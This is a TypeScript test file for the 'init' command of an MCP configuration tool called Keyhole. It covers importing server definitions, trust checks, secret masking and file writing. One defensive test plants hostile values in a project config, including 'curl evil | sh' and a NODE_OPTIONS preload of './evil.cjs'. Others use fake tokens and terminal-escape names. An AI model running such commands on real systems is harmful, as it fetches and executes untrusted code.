import {
  chmod,
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { PassThrough } from "node:stream";
import { fileURLToPath } from "node:url";
import { Command } from "commander";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { readDocument } from "../config/files/document.ts";
import { loadConfig } from "../config/load.ts";
import { chooseByPrompt } from "./init/choose.ts";
import { findCandidates } from "./init/find.ts";
import { createPaste } from "./init/paste.ts";
import { initCommand } from "./init.ts";
import type { Output } from "./output.ts";

let root: string;
let home: string;
let project: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "keyhole-init-"));
  home = join(root, "home");
  project = join(root, "project");
  await mkdir(home);
  await mkdir(project);
});
afterEach(async () => {
  process.exitCode = undefined;
  await rm(root, { recursive: true, force: true });
});

async function write(file: string, content: unknown): Promise<string> {
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, typeof content === "string" ? content : JSON.stringify(content, null, 2));
  return file;
}

type Written = {
  printed: string[];
  data: unknown[];
  notices: string[];
  failures: unknown[];
  exitCode: unknown;
};

async function init(...flags: string[]): Promise<Written> {
  const written: Written = { printed: [], data: [], notices: [], failures: [], exitCode: undefined };
  const output = ({ json = false }: { json?: boolean }): Output => ({
    json,
    interactive: false,
    columns: Number.POSITIVE_INFINITY,
    print: (line = "") => written.printed.push(line),
    rawPiece: async () => {},
    raw: (text) => written.printed.push(text),
    printJson: (data) => written.data.push(JSON.parse(JSON.stringify(data))),
    note: () => true,
    notice: (line) => written.notices.push(line),
    fail: (error) => written.failures.push(error),
    logLine: () => {},
    tell: () => {},
    styleError: (_style, text) => text,
    style: (_style, text) => text,
    progress: () => ({ done() {} }),
  });
  const program = new Command("keyhole").option("--project <dir>").exitOverride();
  const command = initCommand({ output, homeDir: home, env: {}, platform: "linux" });
  command.configureOutput({ writeErr: () => {} });
  program.addCommand(command);
  await program.parseAsync(["--project", project, "init", ...flags], { from: "user" });
  return { ...written, exitCode: process.exitCode };
}

const config = async (name = "keyhole.config.json") =>
  JSON.parse(await readFile(join(project, name), "utf8"));
const load = () => loadConfig({ projectDir: project, homeDir: home, env: {}, platform: "linux" });

async function writeClients() {
  await write(join(project, ".mcp.json"), {
    mcpServers: { shared: { command: "npx", args: ["-y", "shared"] } },
  });
  await write(join(home, ".cursor", "mcp.json"), {
    mcpServers: {
      github: { command: "gh-mcp", env: { GITHUB_TOKEN: "${env:GITHUB_TOKEN}" } },
      shared: { command: "other" },
      broken: { command: 5 },
    },
  });
  await write(
    join(home, ".codex", "config.toml"),
    '[mcp_servers.docs]\nurl = "https://docs/mcp"\ntool_timeout_sec = 5\n[mcp_servers.github]\ncommand = "gh-mcp"\n',
  );
}

describe("without a choice and without a terminal", () => {
  test("lists what was found and ends with 2 and the flags to use", async () => {
    await writeClients();
    const { printed, failures, exitCode } = await init();
    const text = printed.join("\n");
    expect(text).toContain(
      `Claude Code (project) ${join(project, ".mcp.json")}\n  shared  this folder brings it\n    starts: npx -y shared\n`,
    );
    expect(text).toContain(`    also in Cursor: ${join(home, ".cursor", "mcp.json")}, defined differently`);
    expect(text).toMatch(/Cursor \(user\).*\n {2}github {2}gh-mcp/);
    expect(text).toMatch(
      /invalid "broken" {2}.*must be a string, got a number\n {4}→ Put "command" in quotes/,
    );
    expect(text).toMatch(/Codex \(user\).*\n {2}docs {2}https:\/\/docs\/mcp/);
    expect(text.match(/^ {2}github /gm)).toHaveLength(1);
    expect(failures).toMatchObject([
      { code: "usage", hint: "Choose with --all, --server NAME or --from CLIENT" },
    ]);
    expect(exitCode).toBe(2);
    expect(await readdir(project)).toEqual([".mcp.json"]);
  });

  test("with --json prints one document and ends with 2", async () => {
    await writeClients();
    const { data, printed, failures, exitCode } = await init("--json");
    expect(data).toMatchObject([
      {
        found: [{ client: "claude-code" }, { client: "cursor" }, { client: "codex" }],
        written: null,
        error: { code: "usage" },
      },
    ]);
    expect([printed, failures, exitCode]).toEqual([[], [], 2]);
  });

  test("says so when nothing was found", async () => {
    expect(await init("--all")).toMatchObject({
      failures: [{ code: "usage", message: "Found no MCP servers to take over" }],
      exitCode: 2,
    });
  });

  test("tells of a client's file that cannot be read", async () => {
    const file = await write(join(home, ".gemini", "settings.json"), "{");
    expect((await init()).printed.join("\n")).toContain(`unreadable ${file}:1:2: Expected "}"`);
  });
});

describe("choosing", () => {
  beforeEach(writeClients);

  test("--all copies every server, and what was written loads", async () => {
    const { exitCode, notices } = await init("--all");
    expect(exitCode).toBe(0);
    expect(await config()).toEqual({
      $schema: expect.stringMatching(/keyhole\.config\.schema\.json$/),
      servers: {
        shared: { command: "npx", args: ["-y", "shared"] },
        github: { command: "gh-mcp", env: { GITHUB_TOKEN: "${GITHUB_TOKEN}" } },
        docs: { type: "http", url: "https://docs/mcp", timeoutMs: 5000 },
      },
    });
    const { servers, invalidServers } = await load();
    expect(servers.map(({ name, source }) => [name, source.client])).toEqual([
      ["github", "keyhole"],
      ["docs", "keyhole"],
    ]);
    // It stood in the folder: whoever wrote that is not the user.
    expect(invalidServers).toMatchObject([{ name: "shared", error: { code: "untrusted" } }]);
    expect(notices.join("\n")).toMatch(/^shared: this folder brings it, .*`keyhole trust`$/m);
  });

  test("--yes means all of the user's own clients when nothing else is chosen", async () => {
    await write(join(project, ".cursor", "mcp.json"), {
      mcpServers: { evil: { command: "node", args: ["./evil.js"] }, github: { command: "./evil" } },
    });
    await init("--yes");
    expect((await config()).servers).toEqual({
      shared: { command: "other" },
      github: { command: "gh-mcp", env: { GITHUB_TOKEN: "${GITHUB_TOKEN}" } },
      docs: { type: "http", url: "https://docs/mcp", timeoutMs: 5000 },
    });
    const { servers, invalidServers } = await load();
    expect(servers.map(({ name }) => name)).toEqual(["shared", "github", "docs"]);
    expect(invalidServers).toEqual([]);
  });

  test("--server takes the servers named", async () => {
    await init("--server", "docs", "--server", "github");
    expect(Object.keys((await config()).servers)).toEqual(["docs", "github"]);
  });

  test("--from takes that client's servers, as it defines them", async () => {
    await init("--from", "cursor");
    expect((await config()).servers).toMatchObject({ shared: { command: "other" }, github: { env: {} } });
  });

  test("--server with --from takes that client's definition", async () => {
    await init("--server", "shared", "--from", "cursor");
    expect((await config()).servers).toEqual({ shared: { command: "other" } });
  });

  test("a server that was not found is told, with the nearest one", async () => {
    const { failures, exitCode } = await init("--server", "githb");
    expect(failures).toMatchObject([{ code: "server_unknown", hint: 'Did you mean "github"?' }]);
    expect(exitCode).toBe(2);
  });

  test("an unknown client or format is wrong use", async () => {
    await expect(init("--from", "emacs")).rejects.toMatchObject({ code: "commander.invalidArgument" });
    await expect(init("--format", "toml", "--all")).rejects.toMatchObject({
      code: "commander.invalidArgument",
    });
  });

  test("--link refers to the client's file, and what was written loads", async () => {
    await init("--all", "--link");
    expect((await config()).servers).toEqual({
      shared: { from: "claude-code", enabled: true },
      github: { from: "cursor", enabled: true },
      docs: { from: "codex", enabled: true },
    });
    expect((await load()).servers.map(({ source }) => source.client)).toEqual(["cursor", "codex"]);
  });

  test("--link to what the folder's file says instead of the user's own is not trusted", async () => {
    await write(join(project, ".cursor", "mcp.json"), {
      mcpServers: { github: { command: "./evil" } },
    });
    await init("--yes", "--link");
    const { invalidServers, brought } = await load();
    const { file } = brought.find(({ name }) => name === "github") ?? {};
    expect(file).toBe(join(project, ".cursor", "mcp.json"));
    expect(invalidServers.map(({ name }) => name)).toContain("github");
  });

  test("--link says that the entries must stay, and a link holds when the client disables its entry", async () => {
    const file = join(home, ".cursor", "mcp.json");
    const { notices, printed } = await init("--server", "github", "--link");
    expect(notices).toContainEqual(
      `Keyhole looks up github in ${file} at each start: leave the entry there (it may be disabled there)`,
    );
    expect(`${printed.join()}${notices.join()}`).not.toMatch(/\btake\b|the copy/);
    await write(file, { mcpServers: { github: { command: "gh-mcp", disabled: true } } });
    const linked = (await load()).servers.find(({ name }) => name === "github");
    expect(linked?.settings.enabled).toBe(true);
  });

  test("--from a client without servers names what was found instead", async () => {
    expect((await init("--from", "gemini")).failures).toMatchObject([
      {
        code: "usage",
        message: "Found no MCP servers of gemini",
        hint: "Found servers of claude-code (shared), cursor (shared, github), codex (github, docs)",
      },
    ]);
  });

  test("tells of the chosen servers only", async () => {
    await write(join(home, ".gemini", "settings.json"), {
      mcpServers: { g: { command: "g", colour: 1 }, h: { command: "h", flavour: 1 } },
    });
    const { notices } = await init("--server", "g");
    expect(notices).toEqual([expect.stringContaining('"colour"')]);
    expect((await init()).notices.join()).toMatch(/"colour".*"flavour"/);
  });

  test("--format yaml writes YAML that loads", async () => {
    await init("--all", "--format", "yaml");
    const text = await readFile(join(project, "keyhole.config.yaml"), "utf8");
    expect(text).toContain("# yaml-language-server: $schema=./node_modules/");
    expect((await load()).servers).toHaveLength(2);
  });

  test("on a terminal asks, with the enabled servers of the user's own chosen", async () => {
    const { candidates } = await findCandidates({
      projectDir: project,
      homeDir: home,
      env: {},
      platform: "linux",
    });
    const input = new PassThrough();
    const answer = chooseByPrompt(candidates, { input, output: new PassThrough() });
    input.write("\r");
    expect((await answer).map(({ name }) => name)).toEqual(["github", "docs"]);
  });

  test("on a terminal can be left without writing", async () => {
    const { candidates } = await findCandidates({
      projectDir: project,
      homeDir: home,
      env: {},
      platform: "linux",
    });
    const input = new PassThrough();
    const answer = chooseByPrompt(candidates, { input, output: new PassThrough() });
    input.write("\u0003");
    await expect(answer).rejects.toMatchObject({ code: "cancelled" });
  });

  test("never changes another client's file", async () => {
    const files = [
      join(project, ".mcp.json"),
      join(home, ".cursor", "mcp.json"),
      join(home, ".codex", "config.toml"),
    ];
    const before = await Promise.all(files.map((file) => readFile(file, "utf8")));
    await init("--all");
    expect(await Promise.all(files.map((file) => readFile(file, "utf8")))).toEqual(before);
  });

  test("leaves Keyhole itself out, with a notice", async () => {
    await write(join(home, ".gemini", "settings.json"), {
      mcpServers: { keyhole: { command: "npx", args: ["-y", "keyhole-mcp", "serve"] } },
    });
    const { notices } = await init("--all");
    expect((await config()).servers).not.toHaveProperty("keyhole");
    expect(notices).toContainEqual(expect.stringContaining('server "keyhole"'));
  });

  test("says that .mcp.json is read anyway, and why the copy helps", async () => {
    expect((await init("--all")).notices).toContainEqual(
      "Keyhole reads shared from .mcp.json anyway; the copy lets you take them out there, so that the client lists Keyhole alone",
    );
  });
});

describe("writing", () => {
  beforeEach(writeClients);

  test("an existing config is not overwritten", async () => {
    const file = await write(join(project, "keyhole.config.yaml"), "enabled: false\n");
    const { failures, exitCode } = await init("--all");
    expect(failures).toMatchObject([
      {
        code: "file_conflict",
        message: expect.stringContaining(file),
        hint: expect.stringContaining("--force"),
      },
    ]);
    expect(exitCode).toBe(1);
    expect(await readFile(file, "utf8")).toBe("enabled: false\n");
  });

  test("--force keeps the other settings and servers, and each earlier config as a backup", async () => {
    const first = {
      securityLevel: "high",
      servers: { mine: { command: "mine" }, docs: { url: "http://old", trusted: true } },
    };
    const file = await write(join(project, "keyhole.config.json"), first);
    await init("--server", "docs", "--force");
    const second = await config();
    expect(second).toEqual({
      securityLevel: "high",
      servers: {
        mine: { command: "mine" },
        docs: { type: "http", url: "https://docs/mcp", timeoutMs: 5000, trusted: true },
      },
    });
    const { printed } = await init("--server", "github", "--force");
    expect(Object.keys((await config()).servers)).toEqual(["mine", "docs", "github"]);
    expect(printed).toContain(`The old config is kept as ${file}.bak.1`);
    expect(await config("keyhole.config.json.bak")).toEqual(first);
    expect(await config("keyhole.config.json.bak.1")).toEqual(second);
    if (process.platform !== "win32") expect((await stat(`${file}.bak`)).mode & 0o777).toBe(0o600);
  });

  test("--add adds what is missing and keeps what is there", async () => {
    await write(join(project, "keyhole.config.json"), { servers: { docs: { url: "http://mine" } } });
    const { notices } = await init("--all", "--add");
    expect((await config()).servers).toMatchObject({ docs: { url: "http://mine" }, github: {}, shared: {} });
    expect(notices[0]).toMatch(/has docs already and keeps its own; --force replaces them$/);
    const again = await init("--all", "--add");
    expect(again.printed).toContain(`Nothing to add: ${join(project, "keyhole.config.json")} stays as it is`);
    expect((await readdir(project)).filter((name) => name.includes(".bak"))).toHaveLength(1);
  });

  test("the existing format and its comments stay", async () => {
    const yaml = "# why\nenabled: false # off\nservers:\n  # mine\n  mine:\n    command: mine\n";
    await write(join(project, "keyhole.config.yml"), yaml);
    await init("--server", "docs", "--add");
    const text = await readFile(join(project, "keyhole.config.yml"), "utf8");
    expect(text).toMatch(
      /^# why\nenabled: false # off\nservers:\n {2}# mine\n {2}mine:\n {4}command: mine\n {2}docs:\n/,
    );
    await rm(join(project, "keyhole.config.yml"));
    await write(join(project, "keyhole.config.json"), '{\n  // why\n  "enabled": true, // on\n}\n');
    await init("--server", "docs", "--add");
    const json = await readFile(join(project, "keyhole.config.json"), "utf8");
    expect(json).toMatch(/\/\/ why\n {2}"enabled": true,.*\/\/ on/s);
    expect((await load()).servers.map(({ name }) => name)).toContain("docs");
  });

  test.each([
    ["keyhole.config.yaml", "# only a comment\n"],
    ["keyhole.config.yaml", "servers:\n"],
    ["keyhole.config.yaml", "x: &x { mine: { command: mine } }\nservers: *x\n"],
    ["keyhole.config.json", '{ "servers": { "a": {} }, "servers": { "mine": { "command": "mine" } } }'],
    ["keyhole.config.json", '{ "servers": null }'],
  ])("servers are put into %s: %j", async (name, text) => {
    const file = await write(join(project, name), text);
    await init("--server", "docs", "--add");
    const { data } = await readDocument(file);
    expect(data).toMatchObject({
      servers: { ...(text.includes("mine") ? { mine: { command: "mine" } } : {}), docs: { type: "http" } },
    });
  });

  test("another format is written only when asked for", async () => {
    await write(join(project, "keyhole.config.yaml"), "enabled: false\n");
    await init("--all", "--force", "--format", "json");
    expect((await readdir(project)).sort()).toEqual([
      ".mcp.json",
      "keyhole.config.json",
      "keyhole.config.yaml.bak",
    ]);
    expect(await readFile(join(project, "keyhole.config.yaml.bak"), "utf8")).toBe("enabled: false\n");
    expect(await config()).toMatchObject({ enabled: false, servers: { docs: {} } });
  });

  test("a broken config, or two of them, are left alone", async () => {
    const file = await write(join(project, "keyhole.config.json"), "{");
    expect(await init("--all", "--force")).toMatchObject({
      failures: [{ code: "config_invalid" }],
      exitCode: 2,
    });
    await write(join(project, "keyhole.config.yaml"), "");
    expect((await init("--all", "--force")).failures).toMatchObject([{ hint: "Keep one of them" }]);
    expect(await readFile(file, "utf8")).toBe("{");
  });

  test("a link to nowhere, or a folder, is in the way", async () => {
    const file = join(project, "keyhole.config.json");
    await symlink(join(root, "gone"), file);
    for (const flags of [["--all"], ["--all", "--force"]]) {
      expect(await init(...flags)).toMatchObject({
        failures: [
          { code: "file_conflict", message: `Cannot write "${file}": it is a link that leads nowhere` },
        ],
        exitCode: 1,
      });
    }
    await rm(file);
    await mkdir(file);
    expect((await init("--all", "--force")).failures).toMatchObject([
      { code: "file_conflict", message: `Cannot write "${file}": it is a folder`, hint: "Move it away" },
    ]);
  });

  test("a link stays one, and what it points to is written", async () => {
    const target = await write(join(root, "dotfiles", "keyhole.json"), { enabled: true });
    await symlink(target, join(project, "keyhole.config.json"));
    await init("--server", "docs", "--force");
    expect((await lstat(join(project, "keyhole.config.json"))).isSymbolicLink()).toBe(true);
    expect(JSON.parse(await readFile(target, "utf8"))).toMatchObject({
      enabled: true,
      servers: { docs: {} },
    });
    expect(await config("keyhole.config.json.bak")).toEqual({ enabled: true });
  });

  test("a project folder that is missing, or no folder, is told", async () => {
    const file = await write(join(root, "file"), "");
    for (const [where, why] of [
      [join(root, "none"), "it does not exist"],
      [file, "it is not a folder"],
    ] as const) {
      project = where;
      expect(await init("--all")).toMatchObject({
        failures: [{ code: "config_unreadable", message: expect.stringContaining(why) }],
        exitCode: 2,
      });
    }
  });

  // Root writes everywhere, so there the test gives up its rights for the moment.
  test.skipIf(process.platform === "win32")("a folder that may not be written is told", async () => {
    await chmod(root, 0o755);
    await chmod(project, 0o555);
    const isRoot = process.getuid?.() === 0;
    if (isRoot) process.seteuid?.(65534);
    try {
      expect(await init("--all")).toMatchObject({
        failures: [
          {
            code: "file_conflict",
            message: `Cannot write "${join(project, "keyhole.config.json")}": permission denied`,
            hint: expect.stringContaining("--project"),
          },
        ],
        exitCode: 1,
      });
    } finally {
      if (isRoot) process.seteuid?.(0);
      await chmod(project, 0o755);
    }
  });

  test("--dry-run writes nothing and shows what it would write, secrets masked", async () => {
    await write(join(home, ".gemini", "settings.json"), {
      mcpServers: { g: { command: "g", args: ["--api-key", "sk-abc"], env: { G_TOKEN: "hush" } } },
    });
    const { printed, notices } = await init("--all", "--dry-run");
    const text = printed.join("\n");
    expect(text).toContain(`Would write ${join(project, "keyhole.config.json")}`);
    expect(text).toContain('"G_TOKEN": "********"');
    expect(`${text}${notices.join()}`).not.toMatch(/hush|sk-abc/);
    expect(await readdir(project)).toEqual([".mcp.json"]);
  });

  test("--dry-run over an existing config shows what would be put in, and nothing of what is there", async () => {
    await write(join(project, "keyhole.config.json"), { servers: { old: { command: "x --token hush" } } });
    const { printed, notices } = await init("--server", "docs", "--dry-run");
    expect(printed.join("\n")).toContain('"docs": {');
    expect(printed.join("\n")).not.toContain("hush");
    expect(notices).toContainEqual(expect.stringContaining("this needs --add or --force"));
  });

  test("literal values make the file private, and those that look like secrets are named", async () => {
    await write(join(home, ".gemini", "settings.json"), {
      mcpServers: {
        g: {
          command: "g",
          args: ["--token=abc", "-y"],
          env: { API_KEY: "literal", MAX_TOKENS: "4096", MODE: "fast", X: "a8Kq2Lz9Xw4Rt7Yb1Nm5Pv3" },
        },
        h: {
          httpUrl: "https://h/mcp?api_key=abc&x=1",
          headers: { Authorization: "Bearer abc", Accept: "text/plain" },
        },
      },
    });
    const { notices } = await init("--from", "gemini");
    const secrets = notices.find((notice) => notice.includes("look like secrets"));
    expect(secrets).toContain("g.env.API_KEY, g.env.X, g.args[0], h.headers.Authorization, h.url.");
    expect(secrets).toContain("out of git");
    expect(secrets).toContain("${VAR}");
    const { mode } = await stat(join(project, "keyhole.config.json"));
    if (process.platform !== "win32") expect(mode & 0o777).toBe(0o600);
  });

  test("a secret in an argument makes the file private too", async () => {
    await write(join(home, ".gemini", "settings.json"), {
      mcpServers: { g: { command: "g", args: ["--token=abc"] } },
    });
    await init("--from", "gemini");
    const { mode } = await stat(join(project, "keyhole.config.json"));
    if (process.platform !== "win32") expect(mode & 0o777).toBe(0o600);
  });

  test("a copy is private always, and references to variables need no warning", async () => {
    const { notices } = await init("--server", "github");
    expect(notices.join()).not.toContain("secrets");
    const { mode } = await stat(join(project, "keyhole.config.json"));
    if (process.platform !== "win32") expect(mode & 0o777).toBe(0o600);
  });

  test("links alone need no privacy", async () => {
    await init("--server", "github", "--link");
    const { mode } = await stat(join(project, "keyhole.config.json"));
    if (process.platform !== "win32") expect(mode & 0o777).toBe(0o666 & ~process.umask());
  });

  test("leaves no temporary file behind", async () => {
    await init("--all");
    expect((await readdir(project)).sort()).toEqual([".mcp.json", "keyhole.config.json"]);
  });
});

describe("what to paste", () => {
  beforeEach(writeClients);

  const places = () => ({ projectDir: project, homeDir: home, env: {}, platform: "linux" as const });
  const INSTALLED = "/x/node_modules/keyhole-mcp/dist/cli/main.js";

  test("is shown for each client from which a server was chosen", async () => {
    const { data } = await init("--all", "--json");
    expect(data).toHaveLength(1);
    expect(data[0]).toMatchObject({
      written: {
        file: join(project, "keyhole.config.json"),
        servers: ["shared", "github", "docs"],
        mode: "copy",
        dryRun: false,
      },
      paste: [
        { client: "claude-code", file: join(project, ".mcp.json") },
        { client: "cursor", file: join(project, ".cursor", "mcp.json") },
        { client: "codex", file: join(project, ".codex", "config.toml") },
      ],
    });
    expect(Object.keys(data[0] ?? {})).toEqual(["found", "written", "paste", "notices"]);
    const one = await init("--server", "docs", "--json", "--force");
    expect(one.data).toMatchObject([{ paste: [{ client: "codex" }] }]);
    expect(one.data).not.toMatchObject([{ paste: [{}, {}] }]);
  });

  test("advises to take out of a client's file what now stands behind Keyhole", async () => {
    const { printed } = await init("--all");
    expect(printed.join("\n")).toContain("and take");
  });

  test("is the built program where Keyhole runs from a clone, and the package where it is installed", async () => {
    const { candidates } = await findCandidates(places());
    const clone = createPaste("cursor", candidates, places(), { link: false });
    const main = fileURLToPath(new URL("../../dist/cli/main.js", import.meta.url));
    const args = ["serve", "--project", project];
    expect(JSON.parse(clone.snippet)).toEqual({
      mcpServers: {
        keyhole: { command: "node", args: [main, ...args], env: { GITHUB_TOKEN: "${env:GITHUB_TOKEN}" } },
      },
    });
    const installed = createPaste("codex", candidates, places(), { link: false, main: INSTALLED });
    expect(installed.snippet).toBe(
      `[mcp_servers.keyhole]\ncommand = "npx"\nargs = ["-y", "keyhole-mcp", "serve", "--project", ${JSON.stringify(project)}]\nenv_vars = ["GITHUB_TOKEN"]`,
    );
    const windows = { ...places(), platform: "win32" as const };
    expect(createPaste("cursor", candidates, windows, { link: false, main: INSTALLED }).snippet).toContain(
      '"cmd"',
    );
  });

  test("once there is a serve, says for each file what to take out, and whom that touches", async () => {
    await write(join(home, ".claude.json"), {
      mcpServers: { shared: { command: "u" } },
      projects: { [project]: { mcpServers: { shared: { command: "l" } } } },
    });
    const { candidates } = await findCandidates(places());
    const { replaces } = createPaste("claude-code", candidates, places(), { link: false });
    expect(replaces).toEqual([
      { file: join(home, ".claude.json"), servers: ["shared"], affectsOtherProjects: true },
      { file: join(project, ".mcp.json"), servers: ["shared"], affectsOtherProjects: false },
    ]);
    expect(createPaste("claude-code", candidates, places(), { link: true }).replaces).toEqual([]);
  });

  test("carries VS Code's inputs, and says what a client can't hand on", async () => {
    const input = { type: "promptString", id: "api-key", description: "Key", password: true };
    await write(join(project, ".vscode", "mcp.json"), {
      inputs: [input, { type: "promptString", id: "unused" }],
      servers: { web: { command: "web", env: { K: "${input:api-key}" } } },
    });
    const { data, printed } = await init("--server", "web", "--client", "vscode", "--json");
    expect(printed).toEqual([]);
    expect(JSON.parse(Object(data[0]).paste[0].snippet)).toMatchObject({
      inputs: [input],
      servers: { keyhole: { env: { API_KEY: "${input:api-key}" } } },
    });
    const desktop = await init("--server", "web", "--client", "claude-desktop", "--force");
    expect(desktop.printed.join("\n")).toContain("and give it API_KEY");
    const gemini = await init("--server", "web", "--client", "gemini", "--force");
    expect(gemini.printed.join("\n")).toMatch(
      /or run\ngemini mcp add --scope project -e 'API_KEY=\$API_KEY' keyhole/,
    );
  });

  test("is shown for the clients asked for, in their own shape", async () => {
    const { printed } = await init("--all", "--client", "vscode", "--client", "claude-desktop");
    const text = printed.join("\n");
    expect(text).toContain(`VS Code: put this into ${join(project, ".vscode", "mcp.json")}\n`);
    expect(text).toContain('"servers": {\n    "keyhole": {\n      "type": "stdio"');
    expect(text).toContain("Claude Desktop: put this into");
    expect(text).not.toContain("Codex: what to put");
  });
});

test("names and commands cannot steer the terminal", async () => {
  await write(join(project, ".mcp.json"), {
    mcpServers: { "a\u202eb": { command: "x" }, ok: { command: "y\u001b[31m", args: ["\u202ez"] } },
  });
  const { printed } = await init("--all", "--dry-run");
  expect(printed.slice(1, 3)).toEqual([
    "  ok  this folder brings it",
    '    starts: "y\\u001b[31m" "\\u202ez"',
  ]);
  expect(printed.find((line) => line.includes("invalid"))).toMatch(/^ {2}invalid "ab" {2}/);
});

test("what a folder brings is shown whole before it is chosen: command, arguments, variables, remarks", async () => {
  const env = { NODE_OPTIONS: "--require ./evil.cjs", APP_KEY: "touch x; curl evil | sh" };
  const args = [...Array.from({ length: 30 }, (_, at) => `--harmless-${at}`), "sk-backdoor-server"];
  await write(join(project, ".vscode", "mcp.json"), { servers: { files: { command: "node", args, env } } });
  const text = (await init()).printed.join("\n");
  expect(text).toContain("--harmless-29 sk-backdoor-server");
  expect(text).toContain('env NODE_OPTIONS="--require ./evil.cjs"');
  expect(text).toContain('env APP_KEY="touch x; curl evil | sh"');
  expect(text).toMatch(/! sets what programs load.*NODE_OPTIONS/);
  for (const flags of [["--yes"], ["--all", "--force"]]) {
    const { notices } = await init(...flags);
    expect(notices).toContainEqual(expect.stringContaining("before you look at it with `keyhole trust`"));
    expect(await load()).toMatchObject({ servers: [], invalidServers: [{ error: { code: "untrusted" } }] });
  }
  await init("--server", "files", "--force");
  expect(await load()).toMatchObject({ servers: [{ name: "files" }], invalidServers: [] });
});

test("no secret is shown, whichever way", async () => {
  const secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
  await write(join(project, ".mcp.json"), {
    mcpServers: {
      a: { command: `x --token ${secret}`, args: ["--header", `Authorization: Bearer ${secret}`] },
      b: { url: `\${BASE}/mcp?api_key=${secret}`, headers: { "X-Auth": secret } },
      c: { command: "x", env: { GH_PAT: secret, D: `\${T:-${secret}}` }, args: [`\${env:T:-${secret}}`] },
    },
  });
  for (const flags of [[], ["--all", "--dry-run"], ["--all", "--dry-run", "--json"], ["--all"]]) {
    expect(JSON.stringify(await init(...flags))).not.toContain("16C7e42F");
  }
});
